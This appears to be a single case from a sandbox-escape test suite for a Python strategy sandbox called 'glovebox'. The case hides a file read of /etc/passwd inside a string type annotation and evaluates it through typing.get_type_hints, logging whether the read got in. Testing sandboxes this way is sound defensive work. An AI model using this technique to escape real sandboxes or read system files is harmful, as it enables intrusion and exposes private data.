# id: L34
# family: language
# goal: run text through a library that evaluates it
# finding: none
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import typing


class Hint:
    value: "open('/etc/passwd').read(20)"


def attack(ctx, bar):
    return typing.get_type_hints(Hint, localns={"open": open})["value"]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
